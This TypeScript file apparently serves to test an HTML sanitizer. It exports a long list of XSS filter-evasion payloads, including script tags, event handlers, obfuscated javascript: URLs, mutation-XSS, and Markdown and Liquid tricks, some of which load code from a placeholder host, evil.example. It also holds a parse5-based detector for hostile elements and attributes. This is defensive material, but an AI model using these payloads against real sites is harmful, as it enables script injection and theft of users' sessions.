import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';

/**
 * Ways to get a script past a filter, in the manner of OWASP's XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and some that rest on the differences
 * between parsers (mutation XSS), on Markdown and on Liquid. Each would call `alert` or load something if it got through.
 */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script\\x20type="text/javascript">alert(1);</script>',
  '<<script>alert(1);//<</script>',
  '<script src=https://evil.example/x.js?<b>',
  '<script src=//evil.example/.j>',
  '</title><script>alert(1);</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>document.write("<SCRI");</script>PT src="https://evil.example/x.js"></script>',
  '<a onmouseover="alert(1)">a</a>',
  '<a onmouseover=alert(1)>a</a>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=javascript:alert(&quot;1&quot;)>a</a>',
  '<a href="jav&#x09;ascript:alert(1);">a</a>',
  '<a href="jav&#x0A;ascript:alert(1);">a</a>',
  '<a href="jav\tascript:alert(1);">a</a>',
  '<a href="java\0script:alert(1)">a</a>',
  '<a href=" &#14;  javascript:alert(1);">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
  '<a href="java&Tab;script:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example/" target="_blank" rel="opener">a</a>',
  '<a href="https://a.example/" onclick="alert(1)" style="behavior:url(x.htc)">a</a>',
  '<img src="javascript:alert(1);">',
  '<img src=javascript:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>"\\>',
  '<img src=# onmouseover="alert(1)">',
  '<img src= onmouseover="alert(1)">',
  '<img src=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097alert(1)">',
  '<img/onerror=alert(1) src=x>',
  '<img src="x" onerror\n=alert(1)>',
  '<img src="/" =_=" title="onerror=\'alert(1)\'">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, x onerror=alert(1)">',
  '<input type="image" src="javascript:alert(1);">',
  '<body background="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<bgsound src="javascript:alert(1);">',
  '<br size="&{alert(1)}">',
  '<link rel="stylesheet" href="javascript:alert(1);">',
  '<style>@import"https://evil.example/x.css";</style>',
  '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>a</li></ul>',
  '<style type="text/css">body{background:url("javascript:alert(1)")}</style>',
  '<xss style="behavior: url(x.htc);">a</xss>',
  '<div style="background-image: url(javascript:alert(1))">a</div>',
  '<div style="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\'\\0029">a</div>',
  '<div style="width: expression(alert(1));">a</div>',
  '<img style="xss:expr/*XSS*/ession(alert(1))">',
  '<div style="text-align:center;}@import url(//evil.example)">a</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">a</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<meta http-equiv="Set-Cookie" content="a=&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<base href="javascript:alert(1);//">',
  '<iframe src="javascript:alert(1);"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=# onmouseover="alert(1)"></iframe>',
  '<frameset><frame src="javascript:alert(1);"></frameset>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">a</table>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" allowscriptaccess="always">',
  '<applet code="x"></applet>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1">a</text></a></svg>',
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">a</math>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle="alert(1)">a</details>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<select><option><script>alert(1)</script></option></select>',
  '<p title="</p><script>alert(1)</script>">a</p>',
  "<p title='\"><script>alert(1)</script>'>a</p>",
  '<!--[if gte IE 4]><script>alert(1);</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- a --!><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?import namespace="t" implementation="#default#time2">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<div datafld="b" dataformatas="html" datasrc="#x"></div>',
  '<a href="https://a.example/"><a href="javascript:alert(1)">b</a></a>',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](<java script:alert(1)>)',
  '![a](javascript:alert(1))',
  '![a"onerror="alert(1)](x)',
  '[a](x "b\\" onclick=\\"alert(1)")',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\na\n```',
  'a\n{: onclick="alert(1)" style="background:url(javascript:alert(1))"}',
  '[a](b){: href="javascript:alert(1)"}',
  '{% highlight "><script>alert(1)</script> %}</code></pre><script>alert(1)</script>{% endhighlight %}',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  "{{ '\"><script>alert(1)</script>' | relative_url }}",
  '# <script>alert(1)</script>\n## " onmouseover="alert(1)',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: a',
];

type Node = DefaultTreeAdapterTypes.ChildNode;

const ELEMENTS =
  /^(script|style|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|option|meta|link|base|svg|math|body|html|template|noscript|xmp|title|marquee|isindex|bgsound|xss)$/;
const ADDRESSES = [
  'href',
  'src',
  'srcset',
  'cite',
  'poster',
  'action',
  'formaction',
  'background',
  'data',
  'xlink:href',
  'dynsrc',
  'lowsrc',
];
const SAFE_SCHEME = /^(?:https?|mailto|tel):|^data:image\/(?:png|jpeg|gif|webp|avif);base64,/i;
const HOSTILE_STYLE = /url|expression|javascript|import|binding|behavior|position|\\|[<>{}]/i;

/** What could run or load something where HTML is put on a page, as a parser finds it that follows the HTML standard. */
export function hostileParts(html: string): string[] {
  return parseFragment(html).childNodes.flatMap(partsOf);
}

function partsOf(node: Node): string[] {
  if (!('tagName' in node)) return [];
  const { tagName, attrs, childNodes } = node;
  return [
    ...(ELEMENTS.test(tagName) ? [`<${tagName}>`] : []),
    ...attrs.flatMap(({ name, value }) => (isHostile(name, value) ? [`${name}="${value}"`] : [])),
    ...(tagName === 'a' &&
    attrs.some(({ name }) => name === 'target') &&
    !attrs.some(({ value }) => value === 'noopener')
      ? ['target without noopener']
      : []),
    ...childNodes.flatMap(partsOf),
  ];
}

function isHostile(name: string, value: string): boolean {
  if (/^on/i.test(name) || name === 'srcdoc' || name === 'name') return true;
  if (name === 'style') return HOSTILE_STYLE.test(value);
  if (!ADDRESSES.includes(name)) return false;
  // As the URL standard reads it: without what stands around it, without tabs and line ends inside.
  const address = value.replace(/^[\0- ]+|[\t\n\r]/g, '');
  return /^[a-z][a-z0-9+.-]*:/i.test(address) && !SAFE_SCHEME.test(address);
}
